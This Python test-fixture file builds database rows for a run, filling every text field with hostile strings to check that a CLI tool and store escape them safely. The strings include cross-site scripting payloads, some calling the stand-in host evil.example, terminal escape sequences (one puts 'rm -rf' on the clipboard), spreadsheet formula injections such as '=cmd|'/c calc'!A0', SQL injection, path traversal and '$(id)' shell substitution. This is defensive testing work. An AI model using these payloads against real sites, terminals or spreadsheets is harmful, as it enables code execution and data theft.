"""Texts that would do harm where they are not kept as text, and a run that has them wherever a text can be."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from tests.cli.rows import BEGAN, SECOND, event, result, span
from umlaut_async.store.models import Process, Run, Sample, Series, key

if TYPE_CHECKING:
    from collections.abc import Sequence

    from umlaut_async.store.models import Base

_SCRIPTS = ["window.pwned=1", "alert(1)", "fetch('https://evil.example/')"]
_HTML = [
    *(f"<script>{script}</script>" for script in _SCRIPTS),
    *(f"<img src=x onerror={script}>" for script in _SCRIPTS),
    *(f"'\"><svg onload={script}>" for script in _SCRIPTS),
    *(f"</title></style></script><script>{script}</script>" for script in _SCRIPTS),
    *(f'" onmouseover="{script}" autofocus onfocus="{script}' for script in _SCRIPTS),
    *(f"' onload='{script}' x='" for script in _SCRIPTS),
    *(f"javascript:{script}" for script in _SCRIPTS),
    *(f"</td></tr></table><iframe srcdoc='<script>{script}</script>'>" for script in _SCRIPTS),
    *(f"<!--><script>{script}</script>-->" for script in _SCRIPTS),
    *(f"]]><script>{script}</script>" for script in _SCRIPTS),
    *(f"<math><mtext><table><mglyph><style><img src onerror={script}>" for script in _SCRIPTS),
    *(f"<details open ontoggle={script}>" for script in _SCRIPTS),
    *(f"<a href=javascript:{script}>x</a>" for script in _SCRIPTS),
    *(f"<svg><animate onbegin={script} attributeName=x dur=1s>" for script in _SCRIPTS),
    *(f"<svg><foreignObject><body onload={script}>" for script in _SCRIPTS),
    *(f"\u003cscript\u003e{script}\uff1cscript\uff1e" for script in _SCRIPTS),
    *(f"`${{{script}}}`" for script in _SCRIPTS),
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<form action=https://evil.example/><input>",
    "<object data=https://evil.example/a></object>", "<embed src=https://evil.example/a>",
    "<style>@import url(https://evil.example/a.css);</style>", "<video src=https://evil.example/a autoplay>",
    "<img src=https://evil.example/a.png>", "<svg><image href=https://evil.example/a.png></svg>",
    "<svg><use href=https://evil.example/a.svg#x></svg>", "<input type=image src=https://evil.example/a.png>",
    "<body background=https://evil.example/a.png>", "<table background=https://evil.example/a.png>",
    "<plaintext>", "<textarea>", "<title>", "<xmp>", "<noscript>", "<template>", "<select>", "<!doctype html>",
    "</main></body></html>", "</figure></section>", "&lt;b&gt;", "&#60;script&#62;", "&", "&amp;amp;", "<", ">", '"',
    "'", "<b>bold</b>", "<h1>heading</h1>", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s %d {0} {name!r}",
    "url(https://evil.example/a.png)", ";background:url(https://evil.example/)", "expression(alert(1))",
    "}</style><script>window.pwned=1</script>", "}*{display:none}", "/*", "*/", "//evil.example/x", "data:text/html,x",
]  # fmt: skip
_TERMINAL = [
    "\x1b[2J\x1b[31mred", "\x9b31mred", "\x1b]0;new title\x07", "\x1b]8;;https://evil.example\x1b\\text\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x1b(0lqqk", "a\x08\x08b",
    "line\nbreak\r\nand\rmore", "tab\tstop", "\x00nul", "\x07bell", "\x7fdelete", "\x0e\x0f", "\u202eright to left",
    "\u2066isolate\u2069", "\u200emark", "\u2028line\u2029paragraph", "[bold red]markup[/bold red] [/] [link=x]",
    ":skull: [:", "\ufeffbom", "\u0000", "Z\u0351\u036b\u0343a\u0363\u0366lgo" * 20, "\U0001f469\u200d\U0001f52c",
    "\uffff\ufffe", "\U000e0001tag", "a\u0300" * 50,
]  # fmt: skip
_FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "\t=1", "\r=1",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "%0A=1", ";=1", ",=1", '"=1"', "'=1", "\uff1d1+1",
]  # fmt: skip
_OTHERS = [
    "", " ", "'; drop table run; --", "../../etc/passwd", "/dev/null", "C:\\con", "NaN", "Infinity", "null", "None",
    "0", "1e999", "-0", "true", "[]", "{}", "$x^{2$", "\\frac{", "%", "#", "?", "~", "`id`", "$(id)", "a,b;c|d", "last",
    "tag:x", "@baseline", "x" * 5_000, "long word " * 1_000,
]  # fmt: skip

TEXTS = [*_HTML, *_TERMINAL, *_FORMULAS, *_OTHERS]
BATCHES = [TEXTS[start : start + 30] for start in range(0, len(TEXTS), 30)]
LONG = "<b>" * 3_333_334
"""Ten megabytes."""
LONE_SURROGATES = ["\ud800", "a\udfffb", "\udc80\ud800<script>window.pwned=1</script>"]
"""Which only text inside JSON can hold in a database."""


def in_every_text(texts: Sequence[str], uuid: str = "aaaaaaaa-1111", process_id: int = 1) -> list[Base]:
    """Return the rows of a run that has such texts in each field that holds text."""
    first = texts[0]
    everywhere = {text: [text, {text: text}] for text in (*texts, *LONE_SURROGATES)}
    rows: list[Base] = [
        Run(
            uuid=uuid, name=first, description=first, tags=list(texts), started=BEGAN, ended=BEGAN + 9 * SECOND,
            status=first, environment=everywhere, collector=everywhere,
        ),
        Process(
            id=process_id, run_uuid=uuid, host=first, pid=1, started=BEGAN, last_seen=BEGAN, ending=first
        ),
    ]  # fmt: skip
    for at, text in enumerate(texts):
        of: dict[str, Any] = {"process_id": process_id}
        call = span(text, kind=text, task=text, status=text, error=text, **of)
        number = key(process_id, at + 1)
        more: dict[str, Any] = of | {"method": text, "description": text}
        sweep = {"target": text, "measurements": [{text: text, "x": 1}], "hyperparameters": [text]}
        rows += [
            call,
            Series(id=number, type=text, unit=text, source=text, provenance=text, interval=SECOND, **of),
            Sample(id=number, series_id=number, t=BEGAN + SECOND, value=1.0),
            result(text, text, 1, {text: text}, span=call.id, provenance=text, **more),
            result(text, text, 1, **more),
            result(text, text, None, {text: [text, *LONE_SURROGATES]}, **more),
            result("loss", text, None, [1.0, 2.0, 3.0], **more),
            result("hyperparameters", text, None, sweep, **more),
            result("confusion-matrix", text, None, {"matrix": [[1, 2], [3, 4]], "labels": [text, text]}, **more),
            event(text, text, data={text: text}, **of),
            event("unavailable", text, data=dict.fromkeys(("description", "type", "reason", "cure"), text), **of),
        ]
    return rows
